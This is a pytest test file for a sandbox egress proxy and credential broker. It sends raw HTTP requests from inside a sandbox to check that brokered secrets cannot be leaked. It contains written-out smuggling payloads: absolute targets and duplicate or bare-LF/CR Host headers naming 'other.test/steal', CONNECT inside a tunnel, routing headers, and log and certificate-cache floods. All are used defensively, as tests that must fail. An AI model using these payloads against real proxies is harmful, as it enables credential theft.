"""Attacks on the egress proxy and credential brokering, run from root inside a real proxy sandbox.

Each was found against the proxy (issue 24) and is tried here again for real: raw requests written
by a script inside the sandbox, through its forwarder, to the host-side proxy the backend started,
against loopback servers on the host that play the attacker's help (a front server routing by the
request target, an endpoint echoing headers). Every test fails if the attack works.
"""

from __future__ import annotations

import math
import os
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from hermes_sandboxes.backends.local import LocalBackend, LocalSandbox
from hermes_sandboxes.egress import auditlimit
from hermes_sandboxes.egress.broker import BrokeredCredential
from hermes_sandboxes.recorder.journal import EgressRecord, Journal
from hermes_sandboxes.recorder.state import HostState
from hermes_sandboxes.sandbox import SandboxSpec
from tests.local import egress_kit
from tests.local.kit import new_sandbox, sh, temp_backend, wait_for

SECRET = "hsb-attack-secret-" + os.urandom(8).hex()
API_SECRET = "hsb-attack-api-key-" + os.urandom(8).hex()
SECRET_VAR, API_VAR = "HSB_ATTACK_TOKEN", "HSB_ATTACK_API_KEY"
CURL = "curl -sS -m 10"

# Sends one raw request head (hex in argv[4], $TOKEN / $API_KEY replaced by the placeholders) through
# the sandbox's proxy: ``tls`` inside a CONNECT tunnel (trusting the proxy's CA), ``plain`` as a
# forward-proxy request. Prints the raw answer. ``certs``: CONNECT to each host in argv[4:] and print
# a digest of the certificate the proxy presents.
RAW_CLIENT = r"""
import hashlib, os, socket, ssl, sys
from urllib.parse import urlsplit
mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
proxy = urlsplit(os.environ["HTTPS_PROXY"])

def tunnel(name):
    sock = socket.create_connection((proxy.hostname, proxy.port), timeout=20)
    sock.sendall(f"CONNECT {name}:{port} HTTP/1.1\r\nHost: {name}:{port}\r\n\r\n".encode())
    got = b""
    while b"\r\n\r\n" not in got:
        chunk = sock.recv(4096)
        if not chunk:
            break
        got += chunk
    if not got.startswith(b"HTTP/1.1 200"):
        sys.stdout.write(got.decode("latin-1"))
        sys.exit(3)
    return sock

if mode == "certs":
    context = ssl._create_unverified_context()
    for name in sys.argv[4:]:
        with context.wrap_socket(tunnel(name), server_hostname=name.rstrip(".") or None) as tls:
            print(hashlib.sha256(tls.getpeercert(binary_form=True)).hexdigest())
    sys.exit(0)
head = bytes.fromhex(sys.argv[4])
for var, mark in (("GITHUB_TOKEN", b"$TOKEN"), ("API_KEY", b"$API_KEY")):
    head = head.replace(mark, os.environ.get(var, "").encode())
if mode == "tls":
    sock = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"]).wrap_socket(
        tunnel(host), server_hostname=host)
else:
    sock = socket.create_connection((proxy.hostname, proxy.port), timeout=20)
sock.sendall(head)
out = b""
try:
    while chunk := sock.recv(65536):
        out += chunk
except TimeoutError:
    sys.stderr.write("no end: the connection stayed open\n")
except OSError:
    pass
sys.stdout.write(out.decode("latin-1"))
"""


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("attack-site")
    (root / "index.html").write_text("hello\n")
    return root


@pytest.fixture(scope="module")
def upstream_cert(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    return egress_kit.self_signed(tmp_path_factory.mktemp("attack-tls"))


@pytest.fixture(scope="module")
def http_a(site: Path) -> Iterator[egress_kit.Server]:
    with egress_kit.serve(site, SECRET) as server:
        yield server


@pytest.fixture(scope="module")
def https_a(site: Path, upstream_cert: tuple[Path, Path]) -> Iterator[egress_kit.Server]:
    with egress_kit.serve(site, SECRET, tls=upstream_cert) as server:
        yield server


@pytest.fixture(scope="module")
def backend(upstream_cert: tuple[Path, Path], http_a: egress_kit.Server,
            https_a: egress_kit.Server) -> Iterator[LocalBackend]:
    """A store brokering two credentials for both servers: GITHUB_TOKEN (into Authorization, the
    default) and API_KEY (into X-Api-Key only)."""
    os.environ[SECRET_VAR], os.environ[API_VAR] = SECRET, API_SECRET
    hosts = (f"127.0.0.1:{http_a.port}", f"127.0.0.1:{https_a.port}")
    credentials = [BrokeredCredential(name="GITHUB_TOKEN", env=SECRET_VAR, hosts=hosts),
                   BrokeredCredential(name="API_KEY", env=API_VAR, hosts=hosts, headers=("X-Api-Key",))]
    try:
        with temp_backend(store="copy", credentials=credentials, upstream_ca=str(upstream_cert[0])) as b:
            yield b
    finally:
        os.environ.pop(SECRET_VAR, None)
        os.environ.pop(API_VAR, None)


@pytest.fixture(scope="module")
def attacker(backend: LocalBackend, http_a: egress_kit.Server, https_a: egress_kit.Server) -> Iterator[LocalSandbox]:
    allow = (f"127.0.0.1:{http_a.port}", f"127.0.0.1:{https_a.port}", f"localhost:{https_a.port}")
    with new_sandbox(backend, SandboxSpec(network="proxy", allow=allow)) as sb:
        sb.write_file("/root/raw.py", RAW_CLIENT.encode())
        yield sb


def raw(sb: LocalSandbox, mode: str, server: egress_kit.Server, head: str, *, ended: bool = False) -> str:
    """The answer to ``head`` (lines joined with CRLF, a blank line added; ``<LF>`` and ``<CR>`` stand
    for a bare line feed or carriage return) sent from inside; ``ended``: the proxy must also have
    closed the connection after answering (not left the client to time out)."""
    text = "\r\n".join(head.strip("\n").split("\n")) + "\r\n\r\n"
    data = text.replace("<LF>", "\n").replace("<CR>", "\r").encode("latin-1")
    got = sb.exec(f"python3 /root/raw.py {mode} 127.0.0.1 {server.port} {data.hex()}", timeout=60)
    assert not ended or "no end" not in got.stderr, (head, got.stderr)
    return got.stdout


def secret_seen(server: egress_kit.Server, since: int) -> list[egress_kit.Seen]:
    """Requests the server got since ``since`` that carried the real secret anywhere in their head."""
    return [s for s in server.seen[since:]
            if any(SECRET in v or API_SECRET in v for _, v in s.headers) or SECRET in s.target]


def audit(backend: LocalBackend, sb: LocalSandbox) -> list[EgressRecord]:
    return Journal(HostState().audit_path(backend.key)).records_of(EgressRecord, sandbox=sb.name)


# 1. another authority inside an intercepted tunnel --------------------------------------------------

def test_an_intercepted_request_that_names_another_authority_is_refused(
        attacker: LocalSandbox, https_a: egress_kit.Server) -> None:
    """The secret must reach only the host the tunnel was checked for: an absolute target naming
    another host (a front server routes by it), another port in the target or Host, a second
    Host, a header smuggled behind a bare LF, and CONNECT inside the tunnel all get a 403."""
    here = f"127.0.0.1:{https_a.port}"
    attacks = {
        "absolute https target": f"GET https://other.test/steal HTTP/1.1\nHost: {here}",
        "absolute http target": f"GET http://other.test/steal HTTP/1.1\nHost: {here}",
        "target on another port": f"GET https://127.0.0.1:9/steal HTTP/1.1\nHost: {here}",
        "userinfo in the target": f"GET https://{here}@other.test/steal HTTP/1.1\nHost: {here}",
        "Host on another port": "GET /auth HTTP/1.1\nHost: 127.0.0.1:9",
        "a second Host": f"GET /auth HTTP/1.1\nHost: {here}\nHost: other.test",
        "Host behind a bare LF": f"GET /auth HTTP/1.1\nHost: {here}\nX-Note: a<LF>Host: other.test",
        "Host behind a bare CR": f"GET /auth HTTP/1.1\nHost: {here}\nX-Note: a<CR>Host: other.test",
        "CONNECT in the tunnel": "CONNECT other.test:443 HTTP/1.1\nHost: other.test:443",
        "HTTP/2 prior knowledge (:authority)": "PRI * HTTP/2.0\n\nSM",
    }
    for label, head in attacks.items():
        before = len(https_a.seen)
        answer = raw(attacker, "tls", https_a, head + "\nAuthorization: Bearer $TOKEN", ended=True)
        assert answer.startswith(("HTTP/1.1 403", "HTTP/1.1 400")), (label, answer[:300])  # refused, or malformed
        assert https_a.seen[before:] == [], (label, https_a.seen[before:])


def test_an_absolute_target_naming_the_tunnel_s_own_host_goes_out_in_origin_form(
        attacker: LocalSandbox, https_a: egress_kit.Server) -> None:
    here = f"127.0.0.1:{https_a.port}"
    before = len(https_a.seen)
    answer = raw(attacker, "tls", https_a,
                 f"GET https://{here}/auth HTTP/1.1\nHost: {here}\nAuthorization: Bearer $TOKEN")
    assert answer.endswith("\r\n\r\nsecret-arrived\n"), answer[-300:]
    assert [s.target for s in https_a.seen[before:]] == ["/auth"]


def test_http2_is_not_offered_so_no_authority_pseudo_header_goes_unchecked(
        attacker: LocalSandbox, https_a: egress_kit.Server) -> None:
    """HTTP/2 names the host in :authority; the proxy speaks HTTP/1.1 only (no ALPN), so a client
    asking for h2 talks HTTP/1.1, whose Host is checked."""
    got = sh(attacker, f'{CURL} -f --http2 -w " %{{http_version}}" -H "Authorization: Bearer $GITHUB_TOKEN" '
                       f"{https_a.url}/auth").stdout
    answer, version = got.split()
    assert answer == "secret-arrived" and version in ("1", "1.1"), got  # never "2"


def test_routing_headers_never_reach_the_server(attacker: LocalSandbox, https_a: egress_kit.Server) -> None:
    """X-Forwarded-Host, Forwarded and their kind name a virtual host a front server may route by."""
    here = f"127.0.0.1:{https_a.port}"
    before = len(https_a.seen)
    raw(attacker, "tls", https_a, f"GET /auth HTTP/1.1\nHost: {here}\nX-Forwarded-Host: other.test\n"
                                  "Forwarded: host=other.test\nX-Original-URL: /steal\nAuthorization: Bearer $TOKEN")
    (got,) = https_a.seen[before:]
    names = {k.lower() for k, _ in got.headers}
    assert names.isdisjoint({"x-forwarded-host", "forwarded", "x-original-url"}), got.headers


def test_a_request_without_host_gets_the_checked_host(attacker: LocalSandbox, https_a: egress_kit.Server) -> None:
    before = len(https_a.seen)
    raw(attacker, "tls", https_a, "GET /auth HTTP/1.0\nAuthorization: Bearer $TOKEN")
    (got,) = https_a.seen[before:]
    assert dict(got.headers).get("Host") == f"127.0.0.1:{https_a.port}", got.headers


# 6. only over TLS, only into the headers the credential names ------------------------------------

def test_a_brokered_secret_never_goes_out_in_cleartext(attacker: LocalSandbox, http_a: egress_kit.Server) -> None:
    before = len(http_a.seen)
    refused = attacker.exec(f'{CURL} -f -H "Authorization: Bearer $GITHUB_TOKEN" {http_a.url}/auth')
    assert refused.exit_code == 22 and "403" in refused.stderr, refused.stderr
    answer = raw(attacker, "plain", http_a, f"GET {http_a.url}/auth HTTP/1.1\nHost: 127.0.0.1:{http_a.port}\n"
                                             "Authorization: Bearer $TOKEN")
    assert answer.startswith("HTTP/1.1 403") and "TLS" in answer, answer[:300]
    assert secret_seen(http_a, before) == []


def test_the_secret_goes_only_into_the_headers_its_credential_names(
        attacker: LocalSandbox, https_a: egress_kit.Server) -> None:
    """An endpoint that echoes headers gets the placeholder, never the secret, in User-Agent and
    any other header; Authorization (GITHUB_TOKEN's default) and X-Api-Key (API_KEY's) get theirs."""
    echoed = sh(attacker, f'{CURL} -f -A "$GITHUB_TOKEN" -H "X-Echo: $GITHUB_TOKEN $API_KEY" '
                          f'-H "Authorization: Bearer $API_KEY" {https_a.url}/echo').stdout
    assert SECRET not in echoed and API_SECRET not in echoed  # API_KEY goes into X-Api-Key only
    assert "hsb-placeholder-github_token-" in echoed and "hsb-placeholder-api_key-" in echoed
    before = len(https_a.seen)
    sh(attacker, f'{CURL} -f -o /dev/null -H "X-Api-Key: $API_KEY" {https_a.url}/index.html')
    (got,) = https_a.seen[before:]
    assert dict(got.headers)["X-Api-Key"] == API_SECRET  # the credential's own header
    got_auth = sh(attacker, f'{CURL} -f -H "Authorization: Bearer $GITHUB_TOKEN" {https_a.url}/auth').stdout
    assert got_auth == "secret-arrived\n"


# 5. what a sandbox can add to the host's logs -----------------------------------------------------

def test_a_flood_of_refused_connections_is_aggregated_clipped_and_counted(
        backend: LocalBackend, attacker: LocalSandbox, http_a: egress_kit.Server) -> None:
    long_host = "x" * 60 + "." + "y" * 60 + "." + "z" * 3000
    flood = 300
    before = audit(backend, attacker)
    log = backend.layout.run_dir(attacker.name) / "egress.log"
    started = time.monotonic()
    sh(attacker, f"for i in $(seq {flood}); do curl -s -m 5 -o /dev/null -p https://refused.invalid/; done; true",
       timeout=300)
    windows = math.ceil((time.monotonic() - started) / auditlimit.WINDOW_S) + 1  # however slow the machine
    assert raw(attacker, "plain", http_a, f"CONNECT {long_host}:443 HTTP/1.1\nHost: x").startswith("HTTP/1.1 403")

    def refused() -> list[EgressRecord]:
        return [r for r in audit(backend, attacker)[len(before):] if r.host == "refused.invalid"]

    wait_for(lambda: sum(r.count for r in refused()) == flood, "every refused connection to be counted",
             timeout=60)
    assert len(refused()) <= (auditlimit.BURST + 1) * windows, ([r.count for r in refused()], windows)
    records = audit(backend, attacker)[len(before):]
    assert all(len(r.host) <= auditlimit.MAX_HOST and len(r.reason) <= auditlimit.MAX_REASON for r in records)
    assert any(r.host.startswith("x" * 60) for r in records)  # the long one is there, clipped
    assert "Traceback" not in log.read_text(errors="replace")


def test_malformed_requests_leave_one_line_each_and_no_traceback(
        backend: LocalBackend, attacker: LocalSandbox, http_a: egress_kit.Server) -> None:
    log = backend.layout.run_dir(attacker.name) / "egress.log"
    start = log.stat().st_size if log.exists() else 0
    for head in ("GET http://[::1/ HTTP/1.1\nHost: x", "CONNECT [::1:443 HTTP/1.1\nHost: x",
                 "GET http://127.0.0.1:99999999999999999999/ HTTP/1.1\nHost: x"):
        answer = raw(attacker, "plain", http_a, head)
        assert answer.startswith("HTTP/1.1 4"), (head, answer[:200])
    added = log.read_bytes()[start:].decode(errors="replace")
    assert "Traceback" not in added, added[:2000]
    assert len(added.splitlines()) <= 3, added


def test_the_audit_limiter_keeps_its_budget_and_counts_what_it_did_not_write() -> None:
    written: list[EgressRecord] = []
    now = [0.0]
    limiter = auditlimit.AuditLimiter(written.append, clock=lambda: now[0])
    per_record = auditlimit._RECORD_BYTES
    room = auditlimit.BUDGET_BYTES // per_record
    for i in range(room + 500):
        limiter.submit(EgressRecord(sandbox="s", host=f"h{i}.test", port=443, verdict="refused", reason="r"))
    now[0] += auditlimit.WINDOW_S
    limiter.tick()
    assert room <= len(written) <= room + 2
    assert sum(r.count for r in written) == room + 500  # nothing lost from the count


# 10. the certificate cache -----------------------------------------------------------------------

def test_every_spelling_of_a_host_gets_one_certificate(attacker: LocalSandbox, https_a: egress_kit.Server) -> None:
    """Trailing dots (and case) spell one host many ways: one leaf, not one per spelling."""
    spellings = [("LocalHost" if i % 2 else "localhost") + "." * (i % 40) for i in range(80)]
    got = sh(attacker, f"python3 /root/raw.py certs - {https_a.port} {' '.join(spellings)}", timeout=120)
    assert len(got.stdout.split()) == len(spellings)
    assert len(set(got.stdout.split())) == 1, len(set(got.stdout.split()))


def test_the_certificate_cache_is_bounded(tmp_path: Path) -> None:
    from hermes_sandboxes.egress import tls

    tls.create_ca(tmp_path / "ca")
    authority = tls.Authority(tmp_path / "ca")
    first = authority.context_for("first.test")
    for i in range(tls.CACHE_SIZE + 20):
        authority.context_for(f"h{i}.test")
    assert len(authority) == tls.CACHE_SIZE
    assert authority.context_for("first.test") is not first  # the oldest went


def test_new_certificates_are_issued_at_a_bounded_rate(tmp_path: Path) -> None:
    """Thousands of host names must not buy thousands of signatures at once: past the burst, a new
    leaf waits for its turn (a lower bound on the time, whatever the machine's load)."""
    from hermes_sandboxes.egress import tls

    tls.create_ca(tmp_path / "ca")
    authority = tls.Authority(tmp_path / "ca", burst=4, rate=20.0)
    started = time.monotonic()
    for i in range(14):
        authority.context_for(f"rate{i}.test")
    assert time.monotonic() - started >= (14 - 4) / 20.0 * 0.99
    known = authority.context_for("rate0.test")
    assert authority.context_for("rate0.test.") is known  # a known host is served from the cache, no new leaf
    assert len(authority) == 14
